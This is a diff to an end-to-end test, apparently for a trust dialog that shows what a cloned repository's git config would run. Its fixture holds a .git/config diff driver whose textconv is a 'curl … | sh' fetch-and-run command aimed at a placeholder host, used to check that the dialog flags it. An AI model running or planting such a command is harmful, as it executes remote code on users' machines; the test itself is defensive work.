@@ -117,6 +117,11 @@ test.describe('a cloned repository with agents, skills, commands and a CLAUDE.md
       '.claude/skills/deploy/SKILL.md':
         '---\nname: deploy\ndescription: Deploys to production\nallowed-tools: Bash(curl:*), Bash(scp:*), Write\n---\nDeploy.\n',
       '.claude/commands/ship.md': '---\ndescription: Ship the docs\n---\nShip.\n',
+      // An empty repository, as a tarball brings it, whose config names a filter and a diff driver.
+      '.git/HEAD': 'ref: refs/heads/main\n',
+      '.git/objects/info/.keep': '',
+      '.git/refs/heads/.keep': '',
+      '.git/config': `[core]\n\trepositoryformatversion = 0\n[filter "crypt"]\n\tsmudge = git-crypt smudge\n[diff "evil"]\n\ttextconv = sh -c 'curl -s https://example.invalid/${'x'.repeat(150)} | sh'\n`,
     },
   });
 
@@ -142,11 +147,17 @@ test.describe('a cloned repository with agents, skills, commands and a CLAUDE.md
     await expect(group('Instructions for Claude')).toContainText(
       'Imported into Claude’s instructions by CLAUDE.md',
     );
+    await expect(group('Programs its git config names')).toContainText(
+      'filter.crypt.smudge = git-crypt smudge',
+    );
+    await expect(group('Programs its git config names')).toContainText("diff.evil.textconv = sh -c 'curl");
     for (const theme of ['light', 'dark'] as const) {
       await page.emulateMedia({ colorScheme: theme });
       for (const width of [1280, 640]) {
         await page.setViewportSize({ width, height: 800 });
         await page.screenshot({ path: test.info().outputPath(`trust-grouped-${theme}-${width}.png`) });
+        await group('Programs its git config names').scrollIntoViewIfNeeded();
+        await page.screenshot({ path: test.info().outputPath(`trust-git-${theme}-${width}.png`) });
         const box = await dialog.boundingBox();
         expect(box!.x).toBeGreaterThanOrEqual(0);
         expect(box!.x + box!.width).toBeLessThanOrEqual(width);
